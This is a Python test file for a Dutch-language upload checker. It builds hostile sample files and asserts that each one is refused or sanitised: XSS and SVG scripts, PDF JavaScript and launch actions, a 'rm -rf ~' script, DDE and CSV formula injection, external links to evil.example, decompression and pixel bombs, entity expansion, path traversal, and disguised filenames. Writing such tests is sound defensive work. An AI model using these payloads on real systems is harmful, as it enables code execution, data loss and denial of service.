"""Files that want something: each is refused, or made harmless, in words for who added it."""

import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image
from tests.factories.files import XML, archive, odf, ooxml, picture, relations, saved, sound_pdf

from overlegtafel.dossiers.content_checks import RefusedFile, check_file

DOCX = "word/document.xml"
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"


def pdf_with(change: Callable[[Pdf], None], **how: Any) -> bytes:
    """A PDF of one page, after a change."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        change(pdf)
        return saved(pdf, **how)


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def opens(kind: str, **more: Any) -> bytes:
    """A PDF that does something as soon as it is opened."""
    return pdf_with(lambda pdf: setattr(pdf.Root, "OpenAction", action(kind, **more)))


def with_note(**note: Any) -> bytes:
    """A PDF with one annotation on its page."""

    def change(pdf: Pdf) -> None:
        row = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 50, 50]), **note)
        pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(row)]))

    return pdf_with(change)


def attached() -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.attachments["factuur.exe"] = b"MZ" + b"\0" * 64

    return pdf_with(change)


def named_script() -> bytes:
    """JavaScript in the name tree, where it runs without a click."""

    def change(pdf: Pdf) -> None:
        script = pdf.make_indirect(action("JavaScript", JS=String("app.alert(1)")))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))

    return pdf_with(change)


def chained_script() -> bytes:
    """JavaScript behind an innocent web address, in a stream."""

    def change(pdf: Pdf) -> None:
        script = action("JavaScript", JS=Stream(pdf, b"this.exportDataObject({cName:'x'})"))
        pdf.Root.OpenAction = action("URI", URI=String("https://example.org"), Next=script)

    return pdf_with(change)


def packed_bomb() -> bytes:
    """A PDF whose list of objects is some kilobytes, and unpacked some hundreds of megabytes."""
    packed = zlib.compressobj(9)
    bomb = b"".join(packed.compress(b"0" * 1_000_000) for _ in range(200)) + packed.flush()
    return (
        b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(bomb)).encode()
        + b">>\nstream\n"
        + bomb
        + b"\nendstream\nendobj\n%%EOF"
    )


def ratio_bomb() -> bytes:
    return ooxml(extra={"word/media/leeg.xml": b"<a>" + b"\0" * 40_000_000})


def many_parts() -> bytes:
    return ooxml(extra={f"word/deel{number}.xml": "<a/>" for number in range(5_100)})


def lying_size() -> bytes:
    """A part that says it is small."""
    made = ooxml(extra={"word/media/groot.xml": b"a" * 4_000_000})
    return made.replace(struct.pack("<L", 4_000_000), struct.pack("<L", 10))


def pixel_bomb() -> bytes:
    """A PNG that says it is 60,000 points wide and high, in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">L", len(data)) + body + struct.pack(">L", zlib.crc32(body))

    head = chunk(b"IHDR", struct.pack(">LLBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    data = chunk(b"IDAT", zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + head + data + chunk(b"IEND", b"")


def macro_word() -> bytes:
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = f'{XML}<Types><Override PartName="/{DOCX}" ContentType="{kind}"/></Types>'
    return ooxml(extra={"[Content_Types].xml": types})


def entities() -> bytes:
    bomb = '<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><z>&b;</z>'
    return ooxml(extra={DOCX: bomb})


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    return ooxml(extra={"word/_rels/document.xml.rels": relations((kind, target, mode))})


BROKEN_PDF = "Deze PDF is beschadigd of onvolledig. Bewaar ze opnieuw en probeer nog eens."
LOCKED_PDF = (
    "Deze PDF is met een wachtwoord of beperkingen beveiligd. Bewaar ze zonder beveiliging en "
    "probeer opnieuw."
)
BROKEN_OFFICE = (
    "Dit Office-bestand is beschadigd of onvolledig. Bewaar het opnieuw en probeer nog eens."
)
BEHIND = "Achter dit Office-bestand hangt nog iets anders. Bewaar het opnieuw."
BOMB = "Dit Office-bestand wordt uitgepakt veel groter dan het lijkt. Zo nemen we het niet op."
MACROS = "In dit Office-bestand zitten macro's. Bewaar het zonder macro's (.docx, .xlsx of .pptx)."
LINKS = (
    "Dit Office-bestand haalt iets op van buiten (een sjabloon, beeld of ander bestand). Verbreek "
    "die koppelingen, of bewaar het als PDF."
)
OBJECTS = "In dit Office-bestand zit een ingesloten object. Haal het eruit, of bewaar het als PDF."
PATHS = "In dit Office-bestand staan namen die buiten het bestand wijzen. Zo nemen we het niet op."
ENTITIES = "In dit Office-bestand staan eigen XML-definities. Bewaar het opnieuw vanuit Office."
PROGRAM = "Dit is een programma. Programma's nemen we niet op."
NO_TEXT = "Dit bestand is geen gewone tekst. Voeg het toe als PDF."
WEB_TEXT = "In dit tekstbestand staat code van een webpagina. Voeg het toe als PDF."
FORMULA = "In dit CSV-bestand staat een formule. Bewaar alleen de waarden en probeer opnieuw."
PICTURE = "Dit beeld is beschadigd of onvolledig. Bewaar het opnieuw en probeer nog eens."
POINTS = "Dit beeld telt te veel punten om te openen. Maak het kleiner en probeer opnieuw."
NAMED = "De naam van dit bestand lijkt op die van een programma. Geef het een gewone naam."
ZIPPED = "Dit is een ingepakt bestand (ZIP), geen Office-bestand. Voeg de documenten apart toe."

REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "nothing in it": (lambda: b"", "leeg.pdf", "Dit bestand is leeg."),
    "more than may be": (
        lambda: b"%PDF-" + b"0" * (25 * 1024 * 1024),
        "groot.pdf",
        "Dit bestand is groter dan 25 MB. Maak het kleiner, of splits het.",
    ),
    "a program called PDF": (lambda: b"MZ" + b"\0" * 99, "nota.pdf", PROGRAM),
    "a program of Linux": (lambda: b"\x7fELF" + b"\0" * 99, "nota.docx", PROGRAM),
    "a script": (lambda: b"#!/bin/sh\nrm -rf ~\n", "nota.txt", PROGRAM),
    "a web page": (
        lambda: HTML,
        "nota.html",
        "Een webpagina nemen we niet op. Bewaar ze als PDF.",
    ),
    "a web page called PDF": (
        lambda: HTML,
        "nota.pdf",
        "Een webpagina nemen we niet op. Bewaar ze als PDF.",
    ),
    "a web page called text": (lambda: HTML, "nota.txt", WEB_TEXT),
    "a script in a later line of text": (
        lambda: b"Beste,\n\n<ScRiPt src=//evil.example></script>",
        "brief.txt",
        WEB_TEXT,
    ),
    "an SVG with a script": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "kaart.svg",
        "Een SVG-beeld kan scripts bevatten. Bewaar het als PNG of PDF.",
    ),
    "an SVG called PNG": (
        lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>',
        "kaart.png",
        "Een SVG-beeld kan scripts bevatten. Bewaar het als PNG of PDF.",
    ),
    "a GIF that is also JavaScript": (
        lambda: b"GIF89a=1/*\0\0*/;alert(1)",
        "logo.gif",
        "Een GIF-beeld nemen we niet op. Bewaar het als PNG of JPEG.",
    ),
    "a PDF behind a web page": (
        lambda: HTML[:200] + sound_pdf(),
        "nota.pdf",
        "Een webpagina nemen we niet op. Bewaar ze als PDF.",
    ),
    "a PDF behind something else": (
        lambda: b"junk\n" + sound_pdf(),
        "nota.pdf",
        "Voor deze PDF hangt nog iets anders. Bewaar ze opnieuw en probeer nog eens.",
    ),
    "an encrypted PDF": (
        lambda: pdf_with(lambda pdf: None, encryption=pikepdf.Encryption(user="a", owner="b")),
        "nota.pdf",
        LOCKED_PDF,
    ),
    "a PDF that opens but is locked": (
        lambda: pdf_with(lambda pdf: None, encryption=pikepdf.Encryption(user="", owner="b")),
        "nota.pdf",
        LOCKED_PDF,
    ),
    "half a PDF": (lambda: sound_pdf(9)[:400], "nota.pdf", BROKEN_PDF),
    "a PDF without pages": (lambda: saved(pikepdf.new()), "nota.pdf", BROKEN_PDF),
    "noise that begins as a PDF": (lambda: b"%PDF-1.7\n" + bytes(range(256)), "n.pdf", BROKEN_PDF),
    "a PDF that unpacks to hundreds of megabytes": (
        packed_bomb,
        "nota.pdf",
        "Deze PDF is te groot om te openen: uitgepakt wordt ze veel groter dan ze lijkt.",
    ),
    "a Word file called PDF": (
        ooxml,
        "nota.pdf",
        "Dit bestand heet .pdf, maar de inhoud is Word. Geef het een naam die eindigt op .docx.",
    ),
    "a PDF called Excel": (
        sound_pdf,
        "cijfers.xlsx",
        "Dit bestand heet .xlsx, maar de inhoud is PDF. Geef het een naam die eindigt op .pdf.",
    ),
    "a Word file with macros": (
        lambda: ooxml(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "nota.docx",
        MACROS,
    ),
    "a Word file that says it has macros": (macro_word, "nota.docx", MACROS),
    "old macros of Excel": (
        lambda: ooxml("xlsx", {"xl/macrosheets/sheet1.xml": "<xm/>"}),
        "cijfers.xlsx",
        MACROS,
    ),
    "macros in OpenDocument": (
        lambda: odf(extra={"Basic/Standard/Module1.xml": "<script/>"}),
        "nota.odt",
        MACROS,
    ),
    "a script event in OpenDocument": (
        lambda: odf(extra={"content.xml": f'{XML}<a><script:event-listener href="x"/></a>'}),
        "nota.odt",
        MACROS,
    ),
    "a template from elsewhere": (
        lambda: linked("attachedTemplate", "https://evil.example/x.dotm"),
        "nota.docx",
        LINKS,
    ),
    "an image from a file share": (
        lambda: linked("image", "\\\\evil.example\\share\\x.png"),
        "nota.docx",
        LINKS,
    ),
    "a link that runs a protocol": (
        lambda: linked("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "nota.docx",
        LINKS,
    ),
    "a link outside that does not say so": (
        lambda: linked("image", "file:///etc/passwd", ""),
        "nota.docx",
        LINKS,
    ),
    "a field that starts a program": (
        lambda: ooxml(extra={DOCX: f'{XML}<w><t>DDEAUTO c:\\windows\\cmd.exe "/k calc"</t></w>'}),
        "nota.docx",
        LINKS,
    ),
    "a sheet that reads another file": (
        lambda: ooxml("xlsx", {"xl/externalLinks/externalLink1.xml": "<x/>"}),
        "cijfers.xlsx",
        LINKS,
    ),
    "a presentation with an image from the web": (
        lambda: odf(
            "odp", {"content.xml": f'{XML}<a><draw:image xlink:href="https://evil.example/p"/></a>'}
        ),
        "dia.odp",
        LINKS,
    ),
    "an embedded object": (
        lambda: ooxml(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\0"}),
        "nota.docx",
        OBJECTS,
    ),
    "a program in a Word file": (
        lambda: ooxml(extra={"word/media/image1.png": b"MZ\x90\0" + b"\0" * 60}),
        "nota.docx",
        OBJECTS,
    ),
    "macros in the sheet behind a chart": (
        lambda: ooxml(
            extra={"word/embeddings/Sheet1.xlsx": ooxml("xlsx", {"xl/vbaProject.bin": b"\xd0\xcf"})}
        ),
        "nota.docx",
        MACROS,
    ),
    "entities that grow": (entities, "nota.docx", ENTITIES),
    "entities in another alphabet": (
        lambda: ooxml(
            extra={DOCX: '<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "b">]><z/>'.encode("utf-16")}
        ),
        "nota.docx",
        ENTITIES,
    ),
    "a part that becomes a thousand times larger": (ratio_bomb, "nota.docx", BOMB),
    "thousands of parts": (many_parts, "nota.docx", BOMB),
    "a part that lies about its size": (lying_size, "nota.docx", BROKEN_OFFICE),
    "a part outside the file": (
        lambda: ooxml(extra={"../../etc/cron.d/x.xml": "<a/>"}),
        "nota.docx",
        PATHS,
    ),
    "a part with a Windows path": (
        lambda: ooxml(extra={"C:\\windows\\x.xml": "<a/>"}),
        "nota.docx",
        PATHS,
    ),
    "half a Word file": (lambda: ooxml()[:300], "nota.docx", BROKEN_OFFICE),
    "a Word file that is also a web page": (lambda: ooxml() + HTML, "nota.docx", BEHIND),
    "an ordinary ZIP": (lambda: archive({"a.txt": "x"}), "stukken.zip", ZIPPED),
    "a ZIP called Word": (lambda: archive({"a.txt": "x"}), "nota.docx", ZIPPED),
    "an Office file from before 2007": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "nota.doc",
        "Dit is een Office-bestand van voor 2007, of een met een wachtwoord. Bewaar het als "
        ".docx, .xlsx, .pptx of PDF, zonder wachtwoord.",
    ),
    "an image of billions of points": (pixel_bomb, "kaart.png", POINTS),
    "half an image": (lambda: picture("JPEG")[:200], "foto.jpg", PICTURE),
    "noise that begins as an image": (
        lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(200)),
        "foto.png",
        PICTURE,
    ),
    "a sheet that starts a program": (
        lambda: b"naam;bedrag\nLede;=cmd|' /C calc'!A0\n",
        "cijfers.csv",
        FORMULA,
    ),
    "a sheet that calls home": (
        lambda: b'naam,bedrag\nLede,"=HYPERLINK(""https://evil.example"")"\n',
        "cijfers.csv",
        FORMULA,
    ),
    "bytes called text": (lambda: bytes(range(256)), "nota.txt", NO_TEXT),
    "a name with two endings": (sound_pdf, "factuur.exe.pdf", NAMED),
    "a name that turns around": (sound_pdf, "factuur\u202efdp.exe.pdf", NAMED),
}


@pytest.mark.parametrize("what", REFUSED)
def test_a_hostile_file_is_refused_in_words(what: str) -> None:
    make, name, sentence = REFUSED[what]
    with pytest.raises(RefusedFile) as refusal:
        check_file(make(), name)
    assert (refusal.value.sentence, refusal.value.field) == (sentence, "file")


SCRIPTS, STARTS = "scripts", "opdrachten die iets openen of versturen"
FILES, MEDIA, FORM = "ingesloten bestanden", "ingesloten media", "een XFA-formulier"
MORE = "wat voor of achter de PDF hing"

CLEANED: dict[str, tuple[Callable[[], bytes], str, bytes]] = {
    "JavaScript on opening": (
        lambda: opens("JavaScript", JS=String("app.alert(1)")),
        SCRIPTS,
        b"app.alert",
    ),
    "JavaScript by name": (named_script, SCRIPTS, b"app.alert"),
    "JavaScript behind a web address": (chained_script, SCRIPTS, b"/JavaScript"),
    "JavaScript on every page": (
        lambda: pdf_with(
            lambda pdf: setattr(
                pdf.pages[0].obj,
                "AA",
                Dictionary(O=action("JavaScript", JS=String("app.alert(2)"))),
            )
        ),
        SCRIPTS,
        b"app.alert",
    ),
    "a program that starts": (lambda: opens("Launch", F=String("cmd.exe")), STARTS, b"cmd.exe"),
    "a form that sends itself": (
        lambda: with_note(
            Subtype=Name.Link, A=action("SubmitForm", F=String("https://evil.example"))
        ),
        STARTS,
        b"evil.example",
    ),
    "a file of another server": (
        lambda: with_note(
            Subtype=Name.Link, A=action("GoToR", F=String("\\\\evil.example\\x.pdf"), D=Array([0]))
        ),
        STARTS,
        b"evil.example",
    ),
    "a script as web address": (
        lambda: with_note(Subtype=Name.Link, A=action("URI", URI=String("javascript:alert(1)"))),
        STARTS,
        b"javascript:",
    ),
    "an attached program": (attached, FILES, b"factuur.exe"),
    "a paper clip": (
        lambda: with_note(Subtype=Name.FileAttachment, Contents=String("open mij")),
        FILES,
        b"FileAttachment",
    ),
    "a film": (lambda: with_note(Subtype=Name.RichMedia), MEDIA, b"RichMedia"),
    "an XFA form": (
        lambda: pdf_with(
            lambda pdf: setattr(
                pdf.Root, "AcroForm", Dictionary(XFA=Stream(pdf, b"<xdp/>"), Fields=Array([]))
            )
        ),
        FORM,
        b"XFA",
    ),
    "a PDF that is also a ZIP": (
        lambda: sound_pdf() + archive({"x.js": "alert(1)"}),
        MORE,
        b"PK\x03\x04",
    ),
    "a PDF that is also a web page": (lambda: sound_pdf() + HTML, MORE, b"<script"),
}


@pytest.mark.parametrize("what", CLEANED)
def test_what_is_dangerous_in_a_pdf_is_taken_out_and_said(what: str) -> None:
    make, said, trace = CLEANED[what]
    checked = check_file(make(), "nota.pdf")
    assert checked.made_harmless == said
    with pikepdf.open(io.BytesIO(checked.content)) as pdf:
        assert len(pdf.pages) == 1
        plain = saved(pdf, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert trace not in plain and trace not in checked.content
    assert check_file(checked.content, "nota.pdf").content == checked.content


def test_a_photo_forgets_where_it_was_taken_and_what_hangs_behind_it() -> None:
    exif = Image.Exif()
    exif[0x010F] = "Merk van het toestel"
    exif.get_ifd(0x8825)[1] = "N"
    photo = picture("JPEG", exif=exif) + HTML
    checked = check_file(photo, "foto.jpeg")
    assert b"Merk" in photo and b"Merk" not in checked.content and b"<script" not in checked.content
    assert not Image.open(io.BytesIO(checked.content)).getexif()
    assert checked.name == "foto.jpg"
    assert checked.made_harmless == "plaats- en toestelgegevens van het beeld"


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Jan\\Nota.PDF", "Nota.pdf"),
        ("nota\0.pdf", "nota.pdf"),
        ('no"ta\r\nSet-Cookie: a=b.pdf', "no-taSet-Cookie- a=b.pdf"),
        ("CON.pdf", "document CON.pdf"),
        ("..pdf", "pdf.pdf"),
        ("...", "document.pdf"),
        ("nota", "nota.pdf"),
        ("Verslag\u202e \u200b2026.pdf", "Verslag 2026.pdf"),
        ("Café – réunion 9.12.pdf", "Café – réunion 9.12.pdf"),
        ("x" * 4000 + ".pdf", "x" * 120 + ".pdf"),
        ("/" * 9 + ".pdf", "pdf.pdf"),
    ],
)
def test_a_name_keeps_only_what_a_name_is(sent: str, kept: str) -> None:
    assert check_file(sound_pdf(), sent).name == kept


@pytest.mark.parametrize(
    ("make", "name"),
    [
        (sound_pdf, "nota.pdf"),
        (lambda: linked("hyperlink", "https://www.vlaanderen.be"), "nota.docx"),
        (lambda: ooxml(extra={"word/embeddings/Blad.xlsx": ooxml("xlsx")}), "met grafiek.docx"),
        (
            lambda: ooxml("xlsx", {"xl/printerSettings/printerSettings1.bin": b"\0\1"}),
            "cijfers.xlsx",
        ),
        (lambda: ooxml("pptx"), "dia.pptx"),
        (odf, "nota.odt"),
        (lambda: odf("ods"), "cijfers.ods"),
        (lambda: odf("odp"), "dia.odp"),
        (lambda: "Één tekst, zonder meer: 3 < 4.".encode(), "nota.txt"),
        (lambda: b"naam;bedrag\nLede;-1.250,50\nZele;+3\n", "cijfers.csv"),
        (
            lambda: with_note(
                Subtype=Name.Link, A=action("URI", URI=String("https://www.vlaanderen.be"))
            ),
            "met link.pdf",
        ),
    ],
)
def test_a_sound_file_stays_as_it_came(make: Callable[[], bytes], name: str) -> None:
    sent = make()
    checked = check_file(sent, name)
    assert (checked.content, checked.name, checked.made_harmless) == (sent, name, "")
